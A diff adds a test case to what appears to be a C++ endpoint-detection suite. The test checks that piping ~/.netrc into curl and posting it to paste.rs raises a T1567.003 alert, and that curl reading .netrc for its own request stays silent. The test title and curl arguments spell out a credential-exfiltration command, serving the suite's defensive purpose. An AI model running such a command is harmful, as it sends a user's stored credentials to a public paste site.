@@ -467,6 +467,37 @@ TEST_CASE("variant: an interpreter reading the shell's history is data, its own 
     CHECK(own.alerts.empty());
 }
 
+TEST_CASE("variant: a consumer fed a secret on stdin by its shell's redirect (curl -d @- < ~/.netrc) alerts")
+{
+    Timeline tl;
+    ProcessRef child = tl.shell;  // the shell's fork opens the redirect before it execs curl
+    child.pid = 7777;
+    child.entity_id = "e7777";
+    child.ppid = tl.shell.pid;
+    child.parent_entity_id = tl.shell.entity_id;
+    child.start_time = tl.t;
+    tl.feed(ForkEvent{tl.t, child});
+    tl.step();
+    tl.open_read(child, home + "/.netrc");
+    ProcessRef curl = child;
+    curl.executable = "/usr/bin/curl";
+    curl.name = "curl";
+    curl.args = {"curl", "-sk", "--data-binary", "@-", "https://paste.rs/"};
+    tl.feed(ExecEvent{tl.t, curl});
+    tl.step();
+    tl.summary(curl, home + "/.netrc", 2400);
+    tl.transfer(curl, "paste.rs", 3300, 400);
+    expect_alert(tl, "T1567.003", "paste");
+
+    // The same curl opening ~/.netrc itself (curl -n) for a request: its own use, no alert.
+    Timeline own;
+    auto netrc_user = own.spawn(own.shell, {"curl", "-n", "https://api.github.com/user"});
+    own.open_read(netrc_user, home + "/.netrc");
+    own.summary(netrc_user, home + "/.netrc", 2400);
+    own.transfer(netrc_user, "api.github.com", 900, 5000);
+    CHECK(own.alerts.empty());
+}
+
 TEST_CASE("variant: git push over ssh reads its own key: silent")
 {
     Timeline tl;
